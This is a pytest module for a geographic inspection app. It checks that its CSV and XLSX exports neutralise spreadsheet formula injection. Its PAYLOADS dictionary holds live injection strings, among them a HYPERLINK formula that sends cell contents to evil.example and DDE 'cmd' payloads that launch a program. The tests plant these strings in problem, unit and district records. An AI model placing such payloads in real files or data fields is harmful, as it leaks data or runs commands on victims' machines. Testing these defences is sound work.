"""Spreadsheet exports keep text as text: a value beginning with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is never a formula, in any downloadable CSV or XLSX (the ledger
workbook and its CSVs, per unit and per district, with filters; the ``assign`` command's
CSV/XLSX output).  Numbers stay numbers.  Read back with openpyxl and csv."""

from __future__ import annotations

import csv
import io

import geopandas as gpd
import pandas as pd
import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from intake_helpers import inside_point
from openpyxl import load_workbook
from webclient import make_app, sign_in

from geoapp.cli import main
from geoapp.io.sheets import FORMULA_STARTS, csv_text
from geoapp.services.county import DEMO_DIR

#: One dangerous text per first character (each a formula a spreadsheet would run).
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_the_payloads_cover_every_formula_start():
    assert sorted(PAYLOADS) == sorted(FORMULA_STARTS)


@pytest.mark.parametrize("text", PAYLOADS.values())
def test_csv_text_quotes_formulas(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "+3.5", "-0.25", "1e5", "-1E-3", 7, -7.5, None, "整改"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert csv_text(value) == value


def no_formulas(data: bytes) -> dict:
    """Every cell of every sheet, asserting none is a formula; {sheet: rows of values}."""
    wb = load_workbook(io.BytesIO(data))  # not data_only: a formula would show as one
    out = {}
    for ws in wb.worksheets:
        rows = []
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
            rows.append([cell.value for cell in row])
        out[ws.title] = rows
    return out


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_csv_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                # only a plain number may begin so
                assert csv_text(cell) == cell, cell


@pytest.fixture(scope="module")
def demo_url(module_demo_url) -> str:
    """A copy of the demo county per backend, shared by this module's tests: ``injected``
    writes the payloads into it once, and the tests only read it (exports)."""
    return module_demo_url


@pytest.fixture(scope="module")
def client(demo_url):
    """An admin's client of the app on the module's demo copy."""
    app = make_app(demo_url)
    yield sign_in(app.test_client(), "admin")
    app.extensions["geoapp.store"].close()


@pytest.fixture(scope="module")
def injected(client, demo_url):
    """Problems whose id, round and description are the payloads, and a unit and a district
    whose names are; returns what was put where (once per module and backend)."""
    store = client.application.extensions["geoapp.store"]
    _, lon, lat = inside_point(store)
    made = []
    for i, (start, text) in enumerate(PAYLOADS.items()):
        r = client.post(
            "/api/problems",
            json={
                "lon": lon,
                "lat": lat,
                "category": "litter",
                "round": text,
                "description": text,
                "problem_id": f"{start}X{i}",
                "deduction": 1.5,
            },
        )
        assert r.status_code == 201, r.get_data(as_text=True)
        made.append(r.get_json()["problem"])
    unit = made[0].get("responsible_unit_id")
    engine = sa.create_engine(demo_url)
    try:
        with engine.begin() as conn:
            unit = unit or conn.execute(sa.text("SELECT unit_id FROM units LIMIT 1")).scalar()
            conn.execute(
                sa.text("UPDATE units SET name = :n WHERE unit_id = :u"),
                {"n": PAYLOADS["="], "u": unit},
            )
            conn.execute(
                sa.text("UPDATE districts SET name = :n WHERE district_id = 'D1'"),
                {"n": PAYLOADS["@"]},
            )
            # the API trims the ends of texts: store the descriptions exactly as they are
            for i, text in enumerate(PAYLOADS.values()):
                conn.execute(
                    sa.text("UPDATE problems SET description = :d WHERE id = :pk"),
                    {"d": text, "pk": made[i]["id"]},
                )
                made[i]["description"] = text
    finally:
        engine.dispose()
    return made


def test_the_ledger_workbook_has_no_formula_cell(client, injected):
    r = client.get("/ledger/export.xlsx")
    assert r.status_code == 200
    sheets = no_formulas(r.data)
    problems = sheets["问题清单"]
    header = problems[0]
    by_id = {row[header.index("编号")]: row for row in problems[1:]}
    for made in injected:  # as stored (the API trims the ends of ids and rounds)
        row = by_id[made["problem_id"]]  # the text itself, as a string, not quoted
        # (XML reads a carriage return back as a line feed)
        assert row[header.index("问题描述")] == made["description"].replace("\r", "\n")
        assert row[header.index("检查轮次")] == made["round"]
        assert row[header.index("扣分")] == 1.5  # a number stays a number
    assert sorted(m["description"] for m in injected) == sorted(PAYLOADS.values())
    units = [row[1] for row in sheets["按责任单位"]]
    assert PAYLOADS["="] in units
    assert PAYLOADS["@"] in [row[1] for row in sheets["按片区"]]


@pytest.mark.parametrize("start", sorted(PAYLOADS))
def test_filters_echoed_in_the_workbook_are_text(client, injected, start):
    r = client.get("/ledger/export.xlsx", query_string={"round": PAYLOADS[start]})
    assert r.status_code == 200
    sheets = no_formulas(r.data)
    # (filters, like the stored rounds, are trimmed at the ends)
    filters = [row[1] for row in sheets["筛选条件"] if row[0] == "检查轮次"]
    wanted = PAYLOADS[start].strip().split(",")  # a comma separates values of a filter
    assert len(filters) == 1 and sorted(filters[0].split("、")) == sorted(wanted)
    same_round = [t for t in PAYLOADS.values() if t.strip() in wanted]
    assert len(sheets["问题清单"]) == 1 + len(same_round)  # the header, that round's problems


@pytest.mark.parametrize("group", ["unit", "district", "category"])
def test_ledger_csvs_quote_formulas(client, injected, group):
    r = client.get("/ledger/export.csv", query_string={"group": group})
    assert r.status_code == 200
    rows = csv_cells(r.data)
    assert_csv_safe(rows)
    names = [row[1] for row in rows]
    if group == "unit":
        assert "'" + PAYLOADS["="] in names
    if group == "district":
        assert "'" + PAYLOADS["@"] in names
    # the numbers are plain numbers
    header = rows[0]
    for row in rows[1:]:
        for column in ("问题数", "扣分"):
            float(row[header.index(column)])  # a plain number, unquoted


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_assign_output_keeps_input_text_as_text(tmp_path, suffix):
    areas = gpd.read_file(DEMO_DIR / "areas.geojson")
    pts = areas.geometry.representative_point().iloc[: len(PAYLOADS)]
    frame = pd.DataFrame(
        {
            "编号": list(PAYLOADS.values()),
            "经度": pts.x.to_numpy(),
            "纬度": pts.y.to_numpy(),
            "扣分": [-1.5] * len(PAYLOADS),
            "备注": ["-5", "+3", "整改", "=A1", "@x", None],
        }
    )
    src = tmp_path / "in.csv"
    src.write_bytes(frame.to_csv(index=False).encode("utf-8"))
    out = tmp_path / f"out.{suffix}"
    r = CliRunner().invoke(main, ["assign", str(src), str(out), "--zones", str(DEMO_DIR)])
    assert r.exit_code == 0, r.output
    if suffix == "xlsx":
        rows = no_formulas(out.read_bytes())["Sheet1"]
        header = rows[0]
        got = [row[header.index("编号")] for row in rows[1:]]
        # the reader strips surrounding whitespace, as it does for every cell
        assert got == [t.strip() for t in PAYLOADS.values()]
        # (a CSV input is read as text; a number-like text is written unquoted)
        assert [row[header.index("扣分")] for row in rows[1:]] == ["-1.5"] * len(PAYLOADS)
        assert "area_id" in header
    else:
        rows = csv_cells(out.read_bytes())
        assert_csv_safe(rows)
        header = rows[0]
        ids = [row[header.index("编号")] for row in rows[1:]]
        assert ids[:4] == ["'" + t for t in list(PAYLOADS.values())[:4]]
        assert [row[header.index("扣分")] for row in rows[1:]] == ["-1.5"] * len(PAYLOADS)
